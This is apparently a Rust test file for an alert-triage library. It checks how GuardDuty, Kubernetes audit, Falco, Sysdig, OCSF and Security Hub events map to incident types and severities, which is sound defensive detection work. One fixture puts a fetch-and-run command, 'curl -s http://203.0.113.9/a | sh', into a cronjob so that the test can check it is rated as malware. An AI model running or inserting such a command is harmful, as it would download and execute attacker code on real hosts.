//! GuardDuty, Kubernetes audit, Falco, Sysdig, OCSF and Security Hub: what their documented events come to.
//!
//! Each row is one event of the vendor's list with the answer that a responder would give to it alone.

#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking, in its fixtures as well")]

use serde_json::{Value, json};
use triage::{Alert, Context, assess, normalise, triage_incident};
use wire::Instant;
use wire::assessment::{Assessment, HostRole, Severity};

use Severity::{Sev1, Sev2, Sev3, Sev4};

const RECEIVED: Instant = Instant(1_795_283_520_000_000_000);

fn one(record: &Value) -> Assessment {
    let mut all = triage_incident(record.to_string().as_bytes(), RECEIVED, &Context::shipped().unwrap()).unwrap();
    assert_eq!(all.len(), 1, "{record}");
    all.remove(0)
}

fn fixture(name: &str) -> Vec<Alert> {
    let path = format!("{}/fixtures/{name}", env!("CARGO_MANIFEST_DIR"));
    let raw = std::fs::read(&path).unwrap_or_else(|error| panic!("{path}: {error}"));
    let rules = triage::Rules::shipped().unwrap();
    normalise(&raw, RECEIVED, rules).unwrap().into_iter().map(|parsed| parsed.alert).collect()
}

fn incident(name: &str) -> Assessment {
    assess(&fixture(name).iter().collect::<Vec<_>>(), &Context::shipped().unwrap())
}

fn check(rows: &[(&str, &str, Severity)], record: impl Fn(&str) -> Value) {
    let mut wrong = Vec::new();
    for (name, incident_type, severity) in rows {
        let it = one(&record(name));
        if (it.incident_type.as_str(), it.severity) != (*incident_type, *severity) {
            wrong.push(format!("{name}: {} {}, not {incident_type} {severity}", it.incident_type, it.severity));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn guardduty(kind: &str) -> Value {
    json!({
        "schemaVersion": "2.0", "accountId": "111122223333", "region": "eu-west-1", "id": "f1", "type": kind,
        "arn": "arn:aws:guardduty:eu-west-1:111122223333:detector/aa/finding/f1", "severity": 5,
        "title": "A finding", "description": "A finding.", "resource": { "resourceType": "Other" },
        "service": { "serviceName": "guardduty", "detectorId": "aa", "archived": false,
            "eventLastSeen": "2026-11-21T17:40:00Z", "additionalInfo": { "value": "{}", "type": "default" } },
    })
}

#[test]
fn guardduty_finding_types() {
    check(
        &[
            ("AttackSequence:IAM/CompromisedCredentials", "cloud_account_compromise", Sev1),
            ("AttackSequence:S3/CompromisedData", "data_exfiltration", Sev1),
            ("AttackSequence:EC2/CompromisedInstanceGroup", "apt_intrusion", Sev1),
            ("Backdoor:EC2/C&CActivity.B!DNS", "malware_infection", Sev2),
            ("Backdoor:Lambda/C&CActivity.B", "malware_infection", Sev2),
            ("Backdoor:EC2/DenialOfService.UdpOnTcpPorts", "malware_infection", Sev2),
            ("Behavior:EC2/NetworkPortUnusual", "malware_infection", Sev3),
            ("CryptoCurrency:Runtime/BitcoinTool.B", "malware_infection", Sev2),
            ("Impact:Runtime/SuspiciousDomainRequest.Reputation", "malware_infection", Sev3),
            ("Impact:EC2/WinRMBruteForce", "lateral_movement", Sev2),
            ("Impact:EC2/PortSweep", "lateral_movement", Sev3),
            ("Recon:EC2/PortProbeUnprotectedPort", "security_alert", Sev4),
            ("Trojan:EC2/DNSDataExfiltration", "data_exfiltration", Sev1),
            ("Trojan:Lambda/DropPoint", "malware_infection", Sev2),
            ("UnauthorizedAccess:EC2/SSHBruteForce", "credential_compromise", Sev3),
            ("UnauthorizedAccess:Runtime/MetadataDNSRebind", "cloud_account_compromise", Sev3),
            ("Execution:EC2/MaliciousFile", "malware_infection", Sev2),
            ("Execution:EC2/MaliciousFile!Snapshot", "malware_infection", Sev3),
            ("Execution:ECS/SuspiciousFile", "malware_infection", Sev2),
            ("Object:S3/MaliciousFile", "malware_infection", Sev3),
            ("Execution:Runtime/ReverseShell", "malware_infection", Sev2),
            ("Execution:Runtime/NewBinaryExecuted", "malware_infection", Sev3),
            ("DefenseEvasion:Runtime/FilelessExecution", "malware_infection", Sev2),
            ("DefenseEvasion:Runtime/ProcessInjection.Ptrace", "malware_infection", Sev2),
            ("DefenseEvasion:Runtime/KernelModuleLoaded", "malware_infection", Sev2),
            ("DefenseEvasion:Runtime/PtraceAntiDebugging", "malware_infection", Sev3),
            ("PrivilegeEscalation:Runtime/RuncContainerEscape", "privilege_escalation", Sev2),
            ("PrivilegeEscalation:Runtime/DockerSocketAccessed", "privilege_escalation", Sev3),
            ("CredentialAccess:RDS/AnomalousBehavior.FailedLogin", "credential_compromise", Sev3),
            ("CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce", "credential_compromise", Sev2),
            ("CredentialAccess:RDS/TorIPCaller.SuccessfulLogin", "credential_compromise", Sev2),
            ("CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin", "credential_compromise", Sev3),
            ("Discovery:RDS/TorIPCaller", "security_alert", Sev4),
            ("Stealth:IAMUser/CloudTrailLoggingDisabled", "cloud_account_compromise", Sev1),
            ("Stealth:S3/ServerAccessLoggingDisabled", "cloud_account_compromise", Sev3),
            ("CredentialAccess:IAMUser/CompromisedCredentials", "cloud_account_compromise", Sev2),
            ("UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", "cloud_account_compromise", Sev2),
            ("UnauthorizedAccess:IAMUser/TorIPCaller", "cloud_account_compromise", Sev2),
            ("Discovery:IAMUser/AnomalousBehavior", "cloud_account_compromise", Sev3),
            ("Exfiltration:IAMUser/AnomalousBehavior", "cloud_account_compromise", Sev2),
            ("PenTest:IAMUser/KaliLinux", "cloud_account_compromise", Sev3),
            ("Policy:IAMUser/RootCredentialUsage", "policy_violation", Sev3),
            ("Policy:S3/BucketPublicAccessGranted", "policy_violation", Sev3),
            ("Exfiltration:S3/AnomalousBehavior", "data_exfiltration", Sev2),
            ("Exfiltration:S3/MaliciousIPCaller", "cloud_account_compromise", Sev2),
            ("Impact:S3/AnomalousBehavior.Delete", "cloud_account_compromise", Sev2),
            ("Discovery:S3/AnomalousBehavior", "cloud_account_compromise", Sev3),
            ("Discovery:Kubernetes/SuccessfulAnonymousAccess", "unauthorized_access", Sev3),
            ("CredentialAccess:Kubernetes/SuccessfulAnonymousAccess", "credential_compromise", Sev2),
            ("Impact:Kubernetes/MaliciousIPCaller", "cloud_account_compromise", Sev2),
            ("Execution:Kubernetes/ExecInKubeSystemPod", "unauthorized_access", Sev3),
            ("PrivilegeEscalation:Kubernetes/PrivilegedContainer", "privilege_escalation", Sev3),
            ("Policy:Kubernetes/ExposedDashboard", "policy_violation", Sev3),
            // Not on the list yet.
            ("Trojan:EKS/SomethingNew", "malware_infection", Sev3),
            ("Discovery:Bedrock/SomethingNew", "security_alert", Sev4),
        ],
        guardduty,
    );
}

#[test]
fn guardduty_names_what_is_concerned() {
    let mut database = guardduty("CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce");
    database["resource"] = json!({ "resourceType": "RDSDBInstance", "rdsDbUserDetails": { "user": "app_rw" },
        "rdsDbInstanceDetails": { "dbInstanceIdentifier": "orders-1", "engine": "Aurora PostgreSQL" } });
    let it = one(&database);
    assert_eq!((it.hosts[0].name.as_str(), it.accounts[0].as_str()), ("rds:orders-1", "app_rw"));
    let mut runtime = guardduty("Execution:Runtime/ReverseShell");
    runtime["resource"] = json!({ "resourceType": "EKSCluster", "eksClusterDetails": { "name": "shop-eu" },
        "instanceDetails": { "instanceId": "i-0f3a7c1d9e5b24a60" },
        "kubernetesDetails": { "kubernetesWorkloadDetails": { "name": "web-0", "namespace": "shop", "type": "pods" } } });
    let names: Vec<String> = one(&runtime).hosts.into_iter().map(|host| host.name).collect();
    assert_eq!(names, ["eks:shop-eu", "i-0f3a7c1d9e5b24a60", "pod:shop/web-0"]);
    let mut refused = guardduty("Discovery:Kubernetes/TorIPCaller");
    refused["service"]["action"] = json!({ "kubernetesApiCallAction": { "statusCode": 403 } });
    assert_eq!(one(&refused).severity, Sev3);
    let sequence = incident("guardduty-attack-sequence.json");
    assert_eq!((sequence.incident_type.as_str(), sequence.severity), ("apt_intrusion", Sev1));
    assert_eq!(sequence.disposition, "true_positive");
    assert!(sequence.hosts.iter().any(|host| host.name == "i-0f3a7c1d9e5b24a60"));
    assert!(sequence.techniques.iter().any(|technique| technique.id == "T1552.005"));
    let mut sample = guardduty("Stealth:IAMUser/CloudTrailLoggingDisabled");
    sample["title"] = "[SAMPLE] AWS CloudTrail trail was disabled.".into();
    assert_eq!((one(&sample).disposition.as_str(), one(&sample).auto_close), ("test", true));
}

/// `VERB RESOURCE[/SUBRESOURCE] USER CODE URI`
fn audit(event: &str) -> Value {
    let parts: Vec<&str> = event.split(' ').collect();
    let (resource, subresource) = parts[1].split_once('/').unwrap_or((parts[1], ""));
    json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "stage": "ResponseComplete",
        "auditID": event, "verb": parts[0], "requestURI": parts.get(4).unwrap_or(&"/api/v1/namespaces/shop/x"),
        "user": { "username": parts[2], "groups": ["system:authenticated"] }, "sourceIPs": ["203.0.113.77"],
        "userAgent": "kubectl/v1.31.2", "responseStatus": { "code": parts[3].parse::<u16>().unwrap() },
        "objectRef": { "resource": resource, "subresource": subresource, "namespace": "shop", "name": "web-0" },
        "requestReceivedTimestamp": "2026-11-21T17:40:00Z",
    })
}

#[test]
fn kubernetes_requests() {
    check(
        &[
            ("create pods/exec eve@corp.example 101", "unauthorized_access", Sev3),
            ("get pods/exec eve@corp.example 101", "unauthorized_access", Sev3),
            ("create pods/exec eve@corp.example 403", "unauthorized_access", Sev4),
            ("create pods/attach eve@corp.example 101", "unauthorized_access", Sev3),
            ("create pods/portforward eve@corp.example 101", "unauthorized_access", Sev4),
            ("list secrets eve@corp.example 200", "credential_compromise", Sev3),
            ("list secrets system:serviceaccount:shop:default 200", "credential_compromise", Sev3),
            ("list secrets system:anonymous 200", "credential_compromise", Sev2),
            ("list secrets system:anonymous 403", "unauthorized_access", Sev4),
            ("get pods system:anonymous 200", "unauthorized_access", Sev3),
            ("get pods system:anonymous 403", "unauthorized_access", Sev4),
            ("create daemonsets system:anonymous 201", "malware_infection", Sev2),
            ("create serviceaccounts/token eve@corp.example 201", "credential_compromise", Sev3),
            ("create clusterrolebindings eve@corp.example 201", "privilege_escalation", Sev3),
            ("patch mutatingwebhookconfigurations eve@corp.example 200", "privilege_escalation", Sev3),
            ("deletecollection events eve@corp.example 200", "unauthorized_access", Sev3),
            ("create selfsubjectrulesreviews system:serviceaccount:shop:default 201", "security_alert", Sev4),
            ("get pods eve@corp.example 403", "security_alert", Sev4),
            ("list pods system:kube-controller-manager 200", "security_alert", Sev4),
        ],
        audit,
    );
    let mut lease = audit("update leases system:node:ip-10-0-3-17 200");
    assert!(!one(&lease).auto_close, "kubectl with a node's credentials is not the node");
    lease["userAgent"] = "kubelet/v1.31.2 (linux/amd64) kubernetes/abcdef0".into();
    let routine = one(&lease);
    assert_eq!((routine.disposition.as_str(), routine.auto_close), ("benign", true));
    assert!(!one(&audit("get pods/exec system:node:ip-10-0-3-17 101")).auto_close, "that is not routine");
}

#[test]
fn kubernetes_objects_are_looked_into() {
    let event = |resource: &str, object: Value| {
        let mut event = audit(&format!("create {resource} eve@corp.example 201"));
        event["requestObject"] = object;
        one(&event)
    };
    let explained = |it: &Assessment, rule: &str| it.severity_explanation.iter().any(|effect| effect.rule == rule);
    let role = |resources: &str, verbs: &str| json!({ "rules": [{ "resources": [resources], "verbs": [verbs] }] });
    let everything = event("clusterroles", role("*", "*"));
    assert!(explained(&everything, "k8s_powerful_role") && explained(&everything, "k8s_role_over_everything"));
    assert!(!explained(&event("roles", role("configmaps", "get")), "k8s_powerful_role"));
    let everybody = event(
        "clusterrolebindings",
        json!({ "roleRef": { "name": "view" }, "subjects": [{ "kind": "Group", "name": "ops" }, { "name": "system:anonymous" }] }),
    );
    assert_eq!((everybody.incident_type.as_str(), everybody.severity), ("privilege_escalation", Sev2));
    // A container that is privileged, behind one that is not, in a template of a template.
    let spec = json!({ "containers": [{ "name": "a" }, { "name": "b", "securityContext": { "privileged": true } }] });
    let nested = json!({ "spec": { "jobTemplate": { "spec": { "template": { "spec": spec } } } } });
    let job = event("cronjobs", nested);
    assert!(explained(&job, "k8s_privileged_workload"), "{:?}", job.severity_explanation);
    assert_eq!(job.hosts[0].name, "cronjobs:shop/web-0");
    let harmless = event("pods", json!({ "spec": { "containers": [{ "name": "a", "image": "nginx" }] } }));
    assert_eq!((harmless.incident_type.as_str(), harmless.severity), ("security_alert", Sev4));
    let mut sensor = audit("delete daemonsets eve@corp.example 200");
    sensor["objectRef"]["name"] = "falco".into();
    assert_eq!(
        (one(&sensor).severity, one(&sensor).escalation_triggers_fired.as_slice()),
        (Sev1, &["defences_off".to_owned()][..])
    );
    sensor["responseStatus"]["code"] = 403.into();
    assert_eq!(one(&sensor).severity, Sev4, "it was refused");
}

#[test]
fn an_event_list_is_one_incident_about_the_pod() {
    let alerts = fixture("k8s-audit-event-list.json");
    assert_eq!(alerts.len(), 2);
    assert!(triage::correlates(&alerts[0], &alerts[1]).is_some());
    let it = incident("k8s-audit-event-list.json");
    assert_eq!((it.incident_type.as_str(), it.severity), ("privilege_escalation", Sev3));
    assert_eq!((it.hosts.len(), it.hosts[0].name.as_str()), (1, "pod:shop/debug-1"));
    for rule in ["k8s_privileged_workload", "k8s_host_processes", "k8s_host_path", "k8s_exec", "k8s_exec_escapes"] {
        assert!(it.severity_explanation.iter().any(|effect| effect.rule == rule), "{rule}");
    }
    assert_eq!(it.accounts, ["eve@corp.example"]);
}

fn falco(rule: &str) -> Value {
    json!({ "rule": rule, "output": "17:40:00: something was seen (user=root)", "priority": "Warning",
        "time": "2026-11-21T17:40:00Z", "source": "syscall", "hostname": "web-1", "output_fields": {}, "tags": [] })
}

#[test]
fn falco_rules() {
    check(
        &[
            ("Fileless execution via memfd_create", "malware_infection", Sev2),
            ("Redirect STDOUT/STDIN to Network Connection in Container", "malware_infection", Sev2),
            ("Detect release_agent File Container Escapes", "privilege_escalation", Sev2),
            ("Read sensitive file untrusted", "credential_compromise", Sev3),
            ("Contact EC2 Instance Metadata Service From Container", "cloud_account_compromise", Sev3),
            ("Backdoored library loaded into SSHD (CVE-2024-3094)", "supply_chain_compromise", Sev1),
            ("Launch Suspicious Network Tool in Container", "unauthorized_access", Sev3),
            ("Unexpected UDP Traffic", "security_alert", Sev3),
            ("Container Run as Root User", "policy_violation", Sev4),
            ("K8s Secret Get Successfully", "credential_compromise", Sev3),
            ("K8s Deployment Created", "security_alert", Sev4),
            ("ClusterRole With Wildcard Created", "privilege_escalation", Sev3),
            ("CloudTrail Logging Disabled", "cloud_account_compromise", Sev1),
            ("Console Root Login Without MFA", "cloud_account_compromise", Sev3),
            ("Delete Bucket Public Access Block", "policy_violation", Sev3),
            ("Secret pushed into a public repository", "credential_compromise", Sev2),
            ("Private Repository Becoming Public", "policy_violation", Sev3),
            ("Github action with miners", "malware_infection", Sev2),
        ],
        falco,
    );
}

#[test]
fn sysdig_is_worst_at_zero_and_names_node_pod_and_container() {
    let it = incident("sysdig-miner.json");
    assert_eq!((it.incident_type.as_str(), it.severity), ("malware_infection", Sev2));
    let victims: Vec<&str> =
        it.hosts.iter().filter(|host| host.role == HostRole::Victim).map(|host| host.name.as_str()).collect();
    assert_eq!(victims, ["container:c0a1b2c3d4e5", "ip-10-0-3-18.eu-west-1.compute.internal", "pod:shop/cache-0"]);
    let alert = fixture("sysdig-miner.json").remove(0);
    assert_eq!(alert.vendor_severity.map(|severity| severity.level), Some(triage::alert::Level::High));
    assert!(alert.ids.iter().any(|id| id.value == "i-0f3a7c1d9e5b24a61"));
}

/// The program that is known to set off the rule, and one that only calls itself so.
#[test]
fn a_known_benign_program_lowers_its_own_detection_and_no_other() {
    let sysdig = |path: &str, rule: &str| {
        json!({ "id": "1", "originator": "policy", "category": "runtime", "source": "syscall", "severity": 3, "agentId": 1,
            "name": "Threats", "labels": { "host.hostName": "node-1" },
            "content": { "ruleName": rule, "falsePositive": "false", "fields": { "proc.exepath": path, "proc.name": "tuned",
                "proc.pname": "openshift-tuned", "container.image.repository": "quay.io/openshift-release-dev/ocp" } } })
    };
    let benign = one(&sysdig("/usr/sbin/tuned", "Possible Backdoor using BPF"));
    assert_eq!((benign.severity, benign.disposition.as_str(), benign.auto_close), (Sev3, "suspicious", false));
    assert_eq!(benign.false_positive_indicators[0].rule, "openshift_tuned");
    assert!(benign.severity_explanation.iter().any(|effect| effect.rule == "known_benign"));
    let elsewhere = one(&sysdig("/tmp/tuned", "Possible Backdoor using BPF"));
    assert_eq!((elsewhere.severity, elsewhere.false_positive_indicators.len()), (Sev2, 0));
    assert_eq!(one(&sysdig("/usr/sbin/tuned", "Detect crypto miners using the Stratum protocol")).severity, Sev2);
}

#[test]
fn ocsf_by_its_class() {
    let ocsf = |class: u16, severity: u8, more: Value| {
        let mut record = json!({ "class_uid": class, "type_uid": u32::from(class) * 100 + 1, "severity_id": severity,
            "status_id": 1, "metadata": { "version": "1.4.0", "product": { "name": "Acme" } }, "time": 1_795_282_800_000_u64 });
        if let (Some(record), Value::Object(more)) = (record.as_object_mut(), more) {
            record.extend(more);
        }
        one(&record)
    };
    let answer = |it: &Assessment| (it.incident_type.clone(), it.severity);
    let of = |name: &str, severity| (name.to_owned(), severity);
    assert_eq!(
        answer(&ocsf(2002, 5, json!({ "vulnerabilities": [{ "title": "CVE-2026-1" }] }))),
        of("vulnerability_discovered", Sev4)
    );
    assert_eq!(answer(&ocsf(2003, 4, json!({ "compliance": { "status": "Fail" } }))), of("policy_violation", Sev3));
    assert_eq!(answer(&ocsf(2003, 2, json!({ "compliance": { "status": "Fail" } }))), of("policy_violation", Sev4));
    assert!(ocsf(2004, 4, json!({ "status_code": "PASS" })).auto_close);
    let technique = json!({ "finding_info": { "title": "x", "attacks": [{ "technique": { "uid": "T1003" } }] } });
    assert_eq!(answer(&ocsf(2004, 4, technique.clone())), of("credential_compromise", Sev2));
    assert_eq!(answer(&ocsf(2004, 2, technique)), of("credential_compromise", Sev3));
    let blocked = json!({ "malware": [{ "name": "Acme.A" }], "disposition_id": 2 });
    assert_eq!(answer(&ocsf(2004, 4, blocked)), of("malware_infection", Sev3));
    let it = incident("ocsf-detection-malware.json");
    assert_eq!((it.incident_type.as_str(), it.severity), ("malware_infection", Sev2));
    assert_eq!((it.hosts.len(), it.hosts[0].name.as_str()), (1, "web-1"));
    assert!(it.indicators.iter().any(|indicator| indicator.value == "203.0.113.77"));
}

#[test]
fn security_hub_relays_guardduty_which_is_no_second_source() {
    let it = incident("securityhub-guardduty.json");
    assert_eq!((it.incident_type.as_str(), it.severity), ("malware_infection", Sev2));
    assert_eq!(it.hosts[0].name, "i-0f3a7c1d9e5b24a60");
    let (relayed, own) =
        (fixture("securityhub-guardduty.json").remove(0), fixture("guardduty-command-and-control.json").remove(0));
    assert!(triage::correlates(&relayed, &own).is_some());
    assert!(!triage::are_independent(&relayed, &own));
}

#[test]
fn what_workloads_run_and_take() {
    let mut job = audit("create cronjobs system:serviceaccount:shop:web 201");
    let container = |command: &str| json!([{ "name": "a", "image": "busybox", "command": ["sh", "-c", command] }]);
    job["requestObject"] = json!({ "spec": { "jobTemplate": { "spec": { "template": { "spec": { "containers": container("curl -s http://203.0.113.9/a | sh") } } } } } });
    let persistent = one(&job);
    assert_eq!((persistent.incident_type.as_str(), persistent.severity), ("malware_infection", Sev2));
    job["requestObject"]["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"] = container("pg_dump shop");
    assert_eq!(one(&job).severity, Sev4);

    let mut taken = audit("list secrets system:serviceaccount:shop:web 200 /api/v1/secrets?limit=500");
    taken["userAgent"] = "curl/8.5.0".into();
    assert_eq!(one(&taken).severity, Sev2);
    taken["userAgent"] = "external-secrets/v0.9".into();
    assert_eq!(one(&taken).severity, Sev3);

    let mut binding = audit("create clusterrolebindings system:serviceaccount:shop:default 201");
    binding["requestObject"] = json!({ "roleRef": { "kind": "ClusterRole", "name": "cluster-admin" } });
    assert_eq!(one(&binding).severity, Sev2);
    binding["user"]["username"] = "system:serviceaccount:gitops:deployer".into();
    assert_eq!(one(&binding).severity, Sev3);
}

#[test]
fn a_group_of_several_names_is_several_alerts() {
    let alert = |name: &str, rule: &str, instance: &str| json!({ "status": "firing", "fingerprint": name, "startsAt": "2026-11-21T17:40:00Z", "labels": { "alertname": name, "rule": rule, "instance": instance }, "annotations": {} });
    let group = |alerts: Value, common: Value| json!({ "groupKey": "{}", "status": "firing", "alerts": alerts, "commonLabels": common });
    let mixed = group(
        json!([alert("Watchdog", "", "a:1"), alert("falco", "Detect crypto miners using the Stratum protocol", "b:2")]),
        json!({}),
    );
    let taken = normalise(mixed.to_string().as_bytes(), RECEIVED, Context::shipped().unwrap().rules).unwrap();
    let events: Vec<_> = taken.iter().map(|one| one.alert.event.as_str()).collect();
    assert_eq!(events, ["Watchdog", "falco"]);
    let alerts: Vec<_> = taken.iter().map(|one| &one.alert).collect();
    let got = assess(&alerts, &Context::shipped().unwrap());
    assert_eq!((got.incident_type.as_str(), got.severity, got.auto_close), ("malware_infection", Sev2, false));
    let alone = one(&group(json!([alert("Watchdog", "", "a:1")]), json!({ "alertname": "Watchdog" })));
    assert_eq!((alone.disposition.as_str(), alone.auto_close), ("test", true));
}
